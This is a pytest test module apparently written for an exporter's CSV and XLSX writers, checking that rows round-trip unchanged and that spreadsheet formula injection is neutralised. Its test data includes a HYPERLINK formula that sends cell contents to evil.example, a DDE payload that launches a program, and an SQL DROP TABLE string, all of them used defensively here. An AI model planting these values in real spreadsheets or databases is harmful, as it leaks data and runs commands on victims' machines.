"""Whatever the format, an importer gets the same rows."""

from __future__ import annotations

import csv
import io
import re
from bisect import bisect_right
from collections.abc import Mapping
from itertools import accumulate
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lhextract.formats.registry import load_formats
from lhextract.guards import storable
from lhextract.model.table import Tables
from lhextract.run import Extraction
from tests.conftest import Extract
from tests.formats.reading import READERS, export_of, hostile_export

# What a cell of a workbook cannot hold beside what no format holds.
NO_CELL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+49 351 463-0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide": "＝1+1",
    "quoted": "'=1+1",
    "missing": "NA",
    "zeros": "007",
    "exponent": "1e5",
    "digits": "12345678901234567890",
    "true": "TRUE",
    "nul": "a\x00b",
    "surrogates": "\ud800 and \udfff",
    "controls": "\x01\x08\x0b\x1b\ufffe\uffff",
    "address": "https://evil.example/a",
    "markup": "<r><f>1+1</f></r>",
    "tags": "</t></si><f>",
    "escape": "_x003D_1+1",
    "blanks": "  two  ",
    "32,767": "x" * 32_767,
    "longer": "ab" * 30_000,
    "astral": "😀" * 20_000,
    "sql": "'; DROP TABLE initiatives; --",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def stored(tables: Tables) -> Tables:
    """The tables as all formats hold them."""
    return {
        name: tuple(tuple(storable(cell) if isinstance(cell, str) else cell for cell in row) for row in rows)
        for name, rows in tables.items()
    }


def in_cells(tables: Tables) -> Tables:
    """The tables as a workbook holds them: a carriage return is a line feed, what is too long is cut."""

    def cell(text: str) -> str:
        clean = re.sub("\r\n?", "\n", NO_CELL.sub("\ufffd", text))
        units = list(accumulate(2 if letter > "\uffff" else 1 for letter in clean))
        if not units or units[-1] < 32_767:
            return clean
        kept = bisect_right(units, 32_765)
        return clean[:kept] + "…" * (32_766 - units[kept - 1])

    return {
        name: tuple(tuple(cell(each) if isinstance(each, str) else each for each in row) for row in rows)
        for name, rows in stored(tables).items()
    }


def expected(form: str, tables: Tables) -> Tables:
    """What a format gives back."""
    return in_cells(tables) if form == "xlsx" else stored(tables)


@pytest.mark.parametrize("form", READERS)
def test_lighthouse_page_comes_back(form: str, lighthouses: Extraction) -> None:
    """Row for row, value for value, type for type; nothing has to be altered."""
    assert lighthouses.records is not None
    export = export_of(lighthouses.records, lighthouses.page.text)
    written = load_formats()[form].write(export)
    assert READERS[form](written.files) == export.tables
    altered = {what: count for what, count in written.notes.items() if what != "guarded cells"}
    assert set(altered.values()) == {0}


@pytest.mark.parametrize("case", ["brno-projects", "charite-team", "galway-cards"])
def test_other_pages_come_back(case: str, extract_golden: Extract) -> None:
    """English and German, HTML and text, with categories and without."""
    records = extract_golden(case, None).records
    assert records is not None
    export = export_of(records)
    for form, read in READERS.items():
        assert read(load_formats()[form].write(export).files) == export.tables, form


@pytest.mark.parametrize("form", READERS)
@pytest.mark.parametrize("evil", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_comes_back(evil: str, form: str) -> None:
    """No text stops an export or comes back as another, except for what the format cannot hold, and that is counted."""
    export = hostile_export(evil)
    written = load_formats()[form].write(export)
    assert READERS[form](written.files) == expected(form, export.tables)
    altered = expected(form, export.tables) != export.tables
    assert any(count for what, count in written.notes.items() if what != "guarded cells") == altered


@pytest.mark.parametrize("form", READERS)
@given(evil=st.text(st.characters(exclude_characters="\n"), min_size=1, max_size=12))
def test_any_text_comes_back(form: str, evil: str) -> None:
    """The same holds for any text."""
    export = hostile_export(evil)
    assert READERS[form](load_formats()[form].write(export).files) == expected(form, export.tables)


@pytest.mark.parametrize("evil", HOSTILE.values(), ids=HOSTILE)
def test_no_live_formula(evil: str) -> None:
    """No cell of a workbook is anything but a string, none of a CSV begins as a formula does."""
    export = hostile_export(evil)
    sheets = sheets_of(load_formats()["xlsx"].write(export).files)
    assert len(sheets) > len(export.tables)
    for name, sheet in sheets.items():
        cells = re.findall(r"<c [^>]*>", sheet)
        assert all(' t="s"' in cell or cell.endswith("/>") for cell in cells), name
        assert re.search(r"<f[ >]|<is>|TargetMode", sheet) is None, name
    files = load_formats()["csv"].write(export).files
    for name, content in files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(content.decode("utf-8"), newline="")):
                assert not any(cell.startswith(FORMULA) for cell in row), name


def sheets_of(files: Mapping[str, bytes]) -> dict[str, str]:
    """The XML of the sheets of the one workbook, and what else could be live in it."""
    (content,) = files.values()
    with ZipFile(io.BytesIO(content)) as workbook:
        assert not [name for name in workbook.namelist() if "externalLink" in name or "vba" in name.lower()]
        names = [name for name in workbook.namelist() if name.startswith("xl/worksheets/")]
        return {name: workbook.read(name).decode("utf-8") for name in names}
